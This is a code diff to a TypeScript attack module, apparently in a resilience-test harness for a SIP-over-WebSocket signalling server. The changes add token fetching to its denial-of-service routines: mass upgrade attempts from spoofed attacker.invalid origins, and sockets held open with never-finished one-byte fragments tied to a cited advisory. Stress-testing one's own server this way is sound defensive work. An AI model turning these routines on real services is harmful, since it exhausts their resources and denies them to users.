@@ -2,8 +2,8 @@
 
 import { randomBytes } from 'node:crypto';
 import { connect, type Socket } from 'node:net';
+import { askToken, ORIGIN, openPage } from '../page.ts';
 import { pace } from './pace.ts';
-import { visitor } from './signalling-attacks.ts';
 import type { Attack } from './targets.ts';
 
 const HALF_REQUESTS = 300;
@@ -25,28 +25,40 @@ export const halfRequests: Attack = async ({ url }, from, ms) => {
 
 export const hopefulUpgrades: Attack = async ({ url }, from, ms) =>
   await pace(100, ms, index => {
-    const socket = visitor(url, from, `https://${index}.attacker.invalid`);
-    socket.on('open', () => socket.terminate());
+    void openPage(url, { from, origin: `https://${index}.attacker.invalid` }).then(page => {
+      page.on('error', () => {});
+      page.on('open', () => page.terminate());
+    });
   });
 
 /** One byte a fragment, never the last one (GHSA-96hv-2xvq-fx4p). */
-export const tinyFragments: Attack = async ({ url }, from, ms) => {
+export const tinyFragments: Attack = async ({ url, uri }, from, ms) => {
   const mask = randomBytes(4);
   const fragment = (first: boolean) =>
     Buffer.concat([Buffer.from([first ? 0x01 : 0x00, 0x81]), mask, Buffer.from([0x41 ^ mask[0]!])]);
-  const sockets = new Array<Socket | undefined>(10).fill(undefined);
+  const sockets = new Array<Socket | 'coming' | undefined>(10).fill(undefined);
   const dealt = await pace(1_000, ms, index => {
     const place = index % sockets.length;
     const socket = sockets[place];
+    if (socket === 'coming') return;
     if (socket !== undefined && !socket.destroyed) {
       socket.write(fragment(false));
       return;
     }
-    sockets[place] = open(url, from);
-    sockets[place].write(upgrade(url));
-    sockets[place].write(fragment(true));
+    sockets[place] = 'coming';
+    askToken(url, uri, ORIGIN, from).then(
+      token => {
+        const opened = open(url, from);
+        opened.write(upgrade(url, token));
+        opened.write(fragment(true));
+        sockets[place] = opened;
+      },
+      () => {
+        sockets[place] = undefined;
+      },
+    );
   });
-  for (const socket of sockets) socket?.destroy();
+  for (const socket of sockets) if (socket !== 'coming') socket?.destroy();
   return dealt;
 };
 
@@ -58,16 +70,16 @@ function open(url: string, from: string): Socket {
   return socket;
 }
 
-function upgrade(url: string): string {
+function upgrade(url: string, token: string): string {
   return [
     'GET /sip HTTP/1.1',
     `Host: ${new URL(url).host}`,
     'Connection: Upgrade',
     'Upgrade: websocket',
-    'Origin: http://bench.test',
+    `Origin: ${ORIGIN}`,
     'Sec-WebSocket-Version: 13',
     `Sec-WebSocket-Key: ${randomBytes(16).toString('base64')}`,
-    'Sec-WebSocket-Protocol: sip',
+    `Sec-WebSocket-Protocol: sip, token.${token}`,
     '',
     '',
   ].join('\r\n');
